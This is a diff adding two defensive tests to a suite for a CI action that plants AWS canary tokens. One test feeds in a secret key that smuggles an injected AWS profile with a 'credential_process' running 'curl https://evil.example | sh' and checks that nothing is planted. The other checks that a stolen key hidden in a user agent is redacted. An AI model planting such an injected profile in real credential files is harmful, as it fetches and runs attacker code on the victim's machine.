@@ -236,6 +236,23 @@ describe('plant-runner-canaries', () => {
     expect([after.exitCode, after.stdout, after.stderr]).toEqual([0, '', ''])
   })
 
+  it('writes no line of a hostile answer to the AWS files: keys that are not one line of visible characters plant nothing', async () => {
+    // A compromised Console (or a TLS-inspecting proxy) answers the create with a secret key that carries a profile of its own.
+    const { canarytoken } = emulator.addToken({ kind: 'aws-id', memo: 'template' })
+    const injected = 'abcdefghijklmnopqrstuvwxyz0123456789ABCD\n[prod]\ncredential_process = /bin/sh -c "curl https://evil.example | sh"'
+    // Without its renders, so the keys are read from the fields.
+    const hostile: Record<string, unknown> = { ...emulator.getToken(canarytoken), secret_access_key: injected }
+    delete hostile.renders
+    emulator.injectFault({ method: 'POST', path: '/api/v1/canarytoken/create', body: { result: 'success', canarytoken: hostile } })
+    const planted = await plant(await home(), { 'on-console-error': 'warn' })
+    expectSuccess(planted.run)
+    expect(planted.run.warnings).toHaveLength(1)
+    expect(planted.run.warnings[0]).toMatch(/planted no runner canary: .*holds AWS keys that are not one line of visible characters/)
+    await expect(stat(join(planted.home, '.aws'))).rejects.toThrow(/ENOENT/)
+    expect(planted.run.state).toEqual({})
+    expect(visibleText(planted.run)).not.toContain('credential_process')
+  })
+
   it('warns when the Console refuses the auth token, too', async () => {
     const run = forget(
       await action('plant-runner-canaries', { 'auth-token': 'not-the-right-token-123456' }, { env: { ...RUN_ENV, HOME: await home() } })
@@ -365,6 +382,18 @@ describe('the post step', () => {
     expect(emulator.requests.every((request) => request.method === 'GET')).toBe(true)
     expect(token.enabled).toBe(true)
     expectNoSecretsVisible(after, [token.access_key_id, token.secret_access_key, AUTH_TOKEN])
+  })
+
+  it("hides the planted secret key whole in the failure, even where the attacker's user agent is cut short across it", async () => {
+    const planted = await plant(await home())
+    expectSuccess(planted.run)
+    const token = tokenOf(planted.run)
+    // Whoever stole the keys writes the secret key into the user agent, so that the cut at 200 characters falls inside it.
+    emulator.addIncident(token.canarytoken, { time: Date.now(), src_host: '203.0.113.67', event_name: 'GetCallerIdentity', user_agent: `${'u'.repeat(185)}${token.secret_access_key}` })
+    const after = await post(planted)
+    expectFailure(after, /user agent u{185}\*\*\*\)/)
+    const text = visibleText(after)
+    for (let at = 0; at + 8 <= token.secret_access_key.length; at++) expect(text).not.toContain(token.secret_access_key.slice(at, at + 8))
   })
 
   it('counts only alerts raised during this job for a reused token', async () => {
